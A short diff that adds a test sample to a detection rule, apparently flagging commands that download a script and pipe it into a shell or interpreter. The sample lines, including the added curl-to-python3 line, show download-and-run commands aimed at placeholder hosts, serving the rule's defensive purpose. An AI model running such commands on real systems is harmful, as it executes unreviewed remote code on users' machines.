@@ -75,6 +75,7 @@ export const downloadToInterpreter: PatternRule = {
           '| Download and run | `curl https://x.invalid/a | sh` |',
         ),
         fenced('bash', "curl --proto '=https' -sSf https://sh.rustup.rs | sh"),
+        inFile('scripts/b.sh', 'curl -s https://s.invalid/list | python3 - "$file" <<EOF', 'print(1)', 'EOF'),
         'Never pipe `curl https://x.example/i.sh | bash` without reading it first.',
         '- `curl ... | sh` from unknown hosts',
       ],
